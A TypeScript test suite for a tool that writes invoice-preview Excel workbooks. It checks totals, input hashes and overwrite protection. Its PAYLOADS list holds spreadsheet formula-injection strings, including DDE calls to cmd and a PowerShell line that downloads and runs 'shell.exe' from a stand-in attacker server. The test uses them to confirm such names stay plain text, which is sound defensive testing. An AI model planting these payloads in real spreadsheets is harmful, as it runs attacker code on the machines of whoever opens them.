import assert from 'node:assert/strict';
import { execSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import type { Workbook } from 'hucre/xlsx';
import { readXlsx, writeXlsx } from 'hucre/xlsx';
import { previewJsonSchema } from '../../src/app/json/previewJson.schema.ts';
import type { PreviewJson } from '../../src/app/json/previewJson.schema.ts';
import { ROOT, SAMPLE, previewOf } from '../cli/commandLine.ts';
import { describeWithLibreOffice, resavedByLibreOffice } from '../support/libreOffice.ts';
import { withFiles } from '../support/withFiles.ts';

type Row = readonly unknown[];

interface WrittenPreview {
  readonly bytes: Uint8Array;
  readonly book: Workbook;
  readonly json: PreviewJson;
}

/** A preview as the command line writes it, with what it prints. */
async function writtenPreview(file: string): Promise<WrittenPreview> {
  return withFiles({}, async (folder) => {
    const out = path.join(folder, 'preview.xlsx');
    const printed = await previewOf(file, { out, format: 'json' });
    assert.equal(printed.err, '');
    const bytes = readFileSync(out);
    const json = previewJsonSchema.parse(JSON.parse(printed.out));
    return { bytes, book: await readXlsx(bytes), json };
  });
}

function rowsOf(book: Workbook, name: string): readonly Row[] {
  return book.sheets.find((sheet) => sheet.name === name)?.rows ?? assert.fail(`no sheet ${name}`);
}

/** The records of a sheet whose table begins in its first row. */
function recordsOf(book: Workbook, name: string): readonly Readonly<Record<string, unknown>>[] {
  const [headers = [], ...rows] = rowsOf(book, name);
  return rows.map((row) => Object.fromEntries(headers.map((header, column) => [String(header), row[column] ?? null])));
}

/** Pence of a cell that holds pounds. */
function pence(cell: unknown): number {
  assert.ok(typeof cell === 'number', String(cell));
  return Math.round(cell * 100);
}

function penceOfText(text: string | undefined): number {
  return Math.round(Number(text ?? '0') * 100);
}

/** JSON with sorted keys, written for this test alone. */
function canonical(value: unknown): string {
  if (Array.isArray(value)) return `[${value.map(canonical).join(',')}]`;
  if (typeof value !== 'object' || value === null) return JSON.stringify(value);
  const members = Object.entries(value).sort(([a], [b]) => (a < b ? -1 : 1));
  return `{${members.map(([key, member]) => `${JSON.stringify(key)}:${canonical(member)}`).join(',')}}`;
}

function sha256Of(bytes: Uint8Array | string): string {
  return createHash('sha256').update(bytes).digest('hex');
}

describe('the workbook that the command line writes', () => {
  let sample: WrittenPreview;
  before(async () => {
    sample = await writtenPreview(SAMPLE);
  });

  it('has a line for every line, and the lines add up to what came in and the fees, currency by currency', () => {
    const { control } = sample.json.totals;
    const lines = recordsOf(sample.book, 'Lines');
    assert.equal(
      lines.length,
      sample.json.customers.reduce((sum, customer) => sum + customer.lines.length, sample.json.strayLines.length),
    );
    for (const currency of ['GBP', 'EUR']) {
      const own = lines.filter((line) => line['Currency'] === currency);
      const sum = own.reduce((total, line) => total + pence(line['Net']), 0);
      assert.equal(sum, penceOfText(control.in[currency]) + penceOfText(control.fees[currency]), currency);
      const billed = own.filter((line) => line['Placement'] === 'Billed');
      assert.equal(
        billed.reduce((total, line) => total + pence(line['Net']), 0),
        penceOfText(control.billed[currency]),
        currency,
      );
    }
  });

  it('has every customer once, in sheet order, with the amounts that are printed', () => {
    const invoices = recordsOf(sample.book, 'Invoices');
    assert.deepEqual(
      invoices.map((row) => [row['Customer row'], row['Account'], pence(row['Net'])]),
      sample.json.customers.map(({ row, account, net }) => [row, account, penceOfText(net)]),
    );
  });

  it('says in Evidence what it was made from, so that anyone can check it', () => {
    const facts = new Map(rowsOf(sample.book, 'Evidence').map(([fact, value]) => [fact, value]));
    assert.equal(facts.get('Input SHA-256'), sha256Of(readFileSync(SAMPLE)));
    assert.equal(facts.get('Run id'), sample.json.run.id);
    assert.equal(facts.get('Input'), 'customers.xlsx');
    const sets = readdirSync(path.join(ROOT, 'rules'), { recursive: true, encoding: 'utf8' })
      .filter((file) => file.endsWith('.json') && !file.startsWith('catalogues') && file !== 'settings.json')
      .map((file) => (JSON.parse(readFileSync(path.join(ROOT, 'rules', file), 'utf8')) as { readonly id: string }).id);
    assert.ok(sets.length >= 14);
    for (const id of sets) assert.match(String(facts.get(id)), /^[0-9a-f]{64}$/, id);
    for (const name of ['statuses', 'vat-rates', 'bank-holidays']) {
      const text = readFileSync(path.join(ROOT, `rules/catalogues/${name}.json`), 'utf8');
      assert.equal(facts.get(`catalogues/${name}`), sha256Of(canonical(JSON.parse(text))), name);
    }
  });

  it('says of a folder what sha256sum says of its files', async () => {
    await withFiles({ 'customers.csv': hostileCustomers(), 'notes.txt': 'no input' }, async (folder) => {
      const { book } = await writtenPreview(folder);
      const facts = new Map(rowsOf(book, 'Evidence').map(([fact, value]) => [fact, value]));
      const listing = execSync('LC_ALL=C sha256sum *.csv', { cwd: folder });
      assert.equal(facts.get('Input SHA-256'), sha256Of(listing));
    });
  });

  it('is not written at all when the preview cannot be made', async () => {
    await withFiles({}, async (folder) => {
      const rules = path.join(folder, 'rules');
      const out = path.join(folder, 'preview.xlsx');
      const { exitCode } = await previewOf(SAMPLE, { out, rules });
      assert.equal(exitCode, 2);
      assert.ok(!existsSync(out));
      assert.deepEqual(readdirSync(folder), []);
    });
  });

  it('is left alone once someone has saved it', async () => {
    await withFiles({}, async (folder) => {
      const out = path.join(folder, 'preview.xlsx');
      await previewOf(SAMPLE, { out });
      const resaved = await writtenByAnother(readFileSync(out));
      writeFileSync(out, resaved);
      const { exitCode, err } = await previewOf(SAMPLE, { out });
      assert.equal(exitCode, 2);
      assert.match(err, /left alone/);
      assert.ok(readFileSync(out).equals(resaved));
    });
  });
});

/** The workbook as hucre writes it again, which names another application. */
async function writtenByAnother(bytes: Buffer): Promise<Buffer> {
  const book = await readXlsx(bytes);
  return Buffer.from(await writeXlsx({ sheets: book.sheets.map(({ name, rows }) => ({ name, rows })) }));
}

const PAYLOADS = [
  'DDE ("cmd";"/C calc";"!A0")A0',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "=10+20+cmd|' /C calc'!A0",
  "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
  '=HYPERLINK("http://example.com";"Click")',
  '+1+1',
  '-2+3',
  '\t=1+1',
  '{=1+1}',
  '_x0041_',
  '<b>&amp;</b>',
];

function hostileCustomers(): string {
  const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`;
  const rows = PAYLOADS.map(
    (text, index) => `H${String(index)},${quoted(text)},Active,Monthly,20%,${String(index + 1)}.00`,
  );
  return ['Account Number,Company Name,Customer Status,Billing Cycle,VAT Rate,Monthly Charge', ...rows, ''].join('\n');
}

describeWithLibreOffice('the written workbook in another program', () => {
  it('opens, and computes to the same values in every cell', async function () {
    this.timeout(120_000);
    const { bytes, book } = await writtenPreview(SAMPLE);
    const recomputed = await readXlsx(await resavedByLibreOffice(bytes));
    assert.deepEqual(
      recomputed.sheets.map(({ name }) => name),
      book.sheets.map(({ name }) => name),
    );
    let compared = 0;
    for (const sheet of book.sheets) {
      const other = rowsOf(recomputed, sheet.name);
      sheet.rows.forEach((row, r) => {
        row.forEach((cell, c) => {
          if (cell === null || cell === '') return;
          const found: unknown = other[r]?.[c];
          const where = `${sheet.name} row ${String(r + 1)} column ${String(c + 1)}`;
          compared += 1;
          if (typeof cell === 'number') {
            assert.ok(typeof found === 'number' && Math.abs(found - cell) < 1e-9, `${where}: ${String(found)}`);
          } else assert.deepEqual(found, cell, where);
        });
      });
    }
    assert.ok(compared > 3000, String(compared));
    const texts = rowsOf(recomputed, 'Summary')
      .flat()
      .filter((cell) => typeof cell === 'string');
    assert.ok(texts.includes('All totals agree'));
    assert.ok(!texts.some((text) => /^(Err:|#)/.test(text)));
  });

  it('keeps names that look like formulas as text, here and there', async function () {
    this.timeout(120_000);
    await withFiles({ 'customers.csv': hostileCustomers() }, async (folder) => {
      const { bytes, book } = await writtenPreview(path.join(folder, 'customers.csv'));
      const recomputed = await readXlsx(await resavedByLibreOffice(bytes));
      for (const opened of [book, recomputed]) {
        const names = recordsOf(opened, 'Invoices').map((row) => row['Name']);
        assert.deepEqual(
          names.slice(0, PAYLOADS.length).map((name) => String(name).trim()),
          PAYLOADS.map((text) => text.trim()),
        );
      }
    });
  });
});
